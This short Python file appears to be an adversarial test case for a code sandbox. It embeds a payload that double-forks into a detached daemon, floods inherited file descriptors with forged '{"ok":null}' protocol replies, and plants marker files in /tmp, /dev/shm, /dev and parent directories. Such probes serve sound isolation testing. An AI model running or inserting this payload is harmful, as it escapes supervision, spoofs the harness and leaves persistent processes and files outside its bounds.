"""Leaves a daemon behind (two forks and a session of its own) that goes on writing and answering."""

DESERVES: list[str] = []
UNSAFE_FOR_STOCK = True
LAST = r"""
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for number in range(3, 30):
                try:
                    os.write(number, b'\0\0\0\x0b\0\0\0\0{"ok":null}')
                except OSError:
                    pass
            for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/dev", "..", "../..", "../../.."):
                try:
                    open(f"{folder}/linquant_attack_was_here", "w").write("x")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
"""
